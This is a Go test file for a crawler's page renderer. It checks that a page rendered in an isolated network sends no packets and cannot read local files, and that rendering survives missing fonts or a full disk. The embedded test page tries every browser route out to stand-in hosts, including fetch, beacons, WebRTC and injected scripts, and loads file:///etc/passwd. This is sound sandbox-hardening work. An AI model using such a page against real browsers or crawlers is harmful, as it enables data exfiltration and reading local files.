package render_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/weftcrawl/weft/internal/mounts"
	"github.com/weftcrawl/weft/internal/render"
)

// waysOut is a page that tries to reach other addresses in every way that a page has.
const waysOut = `<!doctype html><meta http-equiv=refresh content="1;url=http://10.9.9.9/refresh">
<link rel=preconnect href=http://10.9.9.9><link rel=dns-prefetch href=//x.test><link rel=prefetch href=http://10.9.9.9/prefetch><link rel=preload as=image href=http://10.9.9.9/preload>
<link rel=prerender href=http://10.9.9.9/prerender><link rel=modulepreload href=http://10.9.9.9/module.js><link rel=manifest href=http://10.9.9.9/manifest><link rel=icon href=http://10.9.9.9/icon>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://10.9.9.9/speculation"]}],"prerender":[{"source":"list","urls":["http://hostile.test/prerender"]}]}</script>
<img src=http://10.9.9.9/img><iframe src=http://10.9.9.9/frame></iframe><iframe src=file:///etc/passwd></iframe><iframe src=chrome://version></iframe><object data=http://10.9.9.9/object></object><embed src=http://10.9.9.9/embed>
<video src=http://10.9.9.9/video></video><audio src=http://10.9.9.9/audio></audio><style>@import "http://10.9.9.9/css"; @font-face { font-family: x; src: url(http://10.9.9.9/font) } p { font-family: x; background: url(http://10.9.9.9/background) }</style>
<a ping=http://10.9.9.9/ping href=#x id=a>a</a><form id=f method=post action=http://10.9.9.9/post target=_blank><input name=x></form><p>text<script>
const go = f => { try { f() } catch (e) {} }
for (const to of ['10.9.9.9', '127.0.0.1', 'localhost', '[::1]', 'x.test']) {
  go(() => fetch('http://' + to + '/fetch', {mode: 'no-cors'}).catch(() => 0))
  go(() => fetch('http://' + to + '/keepalive', {method: 'POST', body: 'x', keepalive: true, mode: 'no-cors'}).catch(() => 0))
  go(() => { const x = new XMLHttpRequest; x.open('POST', 'http://' + to + '/xhr'); x.send('x') })
  go(() => new WebSocket('ws://' + to + '/ws'))
  go(() => new EventSource('http://' + to + '/events'))
  go(() => navigator.sendBeacon('http://' + to + '/beacon', 'x'))
  go(() => open('http://' + to + '/open'))
  go(() => new WebTransport('https://' + to + '/quic'))
  go(() => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:' + to + ':3478'}, {urls: 'turn:' + to + ':3478', username: 'x', credential: 'y'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)) })
  go(() => new Worker(URL.createObjectURL(new Blob(["fetch('http://" + to + "/worker'); importScripts('http://" + to + "/import.js')"]))))
  go(() => new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://" + to + "/shared')"]))))
}
go(() => navigator.serviceWorker.register('/sw.js'))
go(() => a.click()); go(() => f.submit())
go(() => document.body.append(Object.assign(document.createElement('script'), {src: 'http://10.9.9.9/script.js'})))
setTimeout(() => { location = 'http://10.9.9.9/location' }, 200); setTimeout(() => { location = 'file:///etc/passwd' }, 400); setTimeout(() => { location = 'chrome://settings' }, 500)
addEventListener('pagehide', () => navigator.sendBeacon('http://10.9.9.9/bye', 'x'))
</script>`

// TestOneWire: in a network of its own, whose only way out counts packets, a page that tries every
// way out sends none; and each way that is a request was seen.
func TestOneWire(t *testing.T) {
	inEach(t, 1, browsers, testOneWire)
}

func testOneWire(t *testing.T, r *render.Renderer) {
	if !mounts.Alone(t, `ip link add out type veth peer name far && ip link set far addrgenmode none up && ip link set out addrgenmode none && ip addr add 10.9.9.1/24 dev out && ip link set out up && ip link set lo up && ip route add default dev out`, "--net") {
		return
	}
	seen := make(chan string, 1000)
	p := page("http://hostile.test/", waysOut, nil)
	p.Fetch = func(_ context.Context, q *render.Request) (*render.Response, error) {
		seen <- q.URL
		return nil, errors.New("refused")
	}
	before := packets(t)
	d, err := r.Render(t.Context(), p)
	if err != nil {
		t.Fatal(err)
	}
	// What a page sends when it is left, and what comes late, is sent before the next one is shown.
	if _, err := r.Render(t.Context(), page("http://sound.test/", "<p>x", nil)); err != nil {
		t.Fatal(err)
	}
	r.Close()
	if after := packets(t); after != before {
		t.Errorf("packets by device: %s, before %s", after, before)
	}
	close(seen)
	all := " " + strings.Join(d.Targets, " ")
	for url := range seen {
		all += " " + url
	}
	for _, refused := range d.Refused {
		all += " " + refused.URL
	}
	t.Log(all)
	for _, want := range []string{"img", "frame", "object", "embed", "css", "background", "fetch", "keepalive", "xhr", "events", "beacon", "open", "import.js", "worker", "script.js", "location"} {
		if !strings.Contains(all, "/"+want) {
			t.Errorf("%s: not seen", want)
		}
	}
	if strings.Contains(d.HTML+fmt.Sprint(d.Frames), "root:") {
		t.Error("a file was read")
	}
}

// TestPoorMachine: a machine without shared memory or fonts, or with a full disk, renders pages and
// takes pictures of them.
func TestPoorMachine(t *testing.T) {
	t.Parallel()
	for name, script := range map[string]string{
		"no shared memory and no fonts": `mount -t tmpfs -o size=4k,mode=0 none /dev/shm && mkdir "$TMPDIR/none" && for d in /usr/share/fonts /etc/fonts /var/cache/fontconfig /usr/share/fontconfig; do [ ! -d $d ] || mount --bind "$TMPDIR/none" $d; done`,
		"a full disk":                   `mount -t tmpfs -o size=64k none "$TMPDIR" && { head -c 1m /dev/zero >"$TMPDIR/all" 2>/dev/null; [ -s "$TMPDIR/all" ]; }`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			path, err := render.Find("")
			if err != nil {
				t.Skip(err)
			}
			if !mounts.Alone(t, script, "--mount") {
				return
			}
			r := render.New(render.Options{Program: path})
			defer r.Close()
			p := page("http://a.test/", "<!doctype html><title>x</title><p id=p><script>p.textContent = 'by ' + 'script'</script>", nil)
			p.Screenshot = render.ScreenshotViewport
			if d, err := r.Render(t.Context(), p); err != nil || !strings.Contains(d.HTML, "by script") || d.Missing != "" {
				t.Errorf("%+v, %v", d, err)
			}
		})
	}
}

// packets returns the packets that each device has sent.
func packets(t *testing.T) (all string) {
	t.Helper()
	text, err := os.ReadFile("/proc/self/net/dev")
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(text)) {
		if name, rest, ok := strings.Cut(line, ":"); ok {
			all += strings.TrimSpace(name) + " " + strings.Fields(rest)[9] + ", "
		}
	}
	return all
}
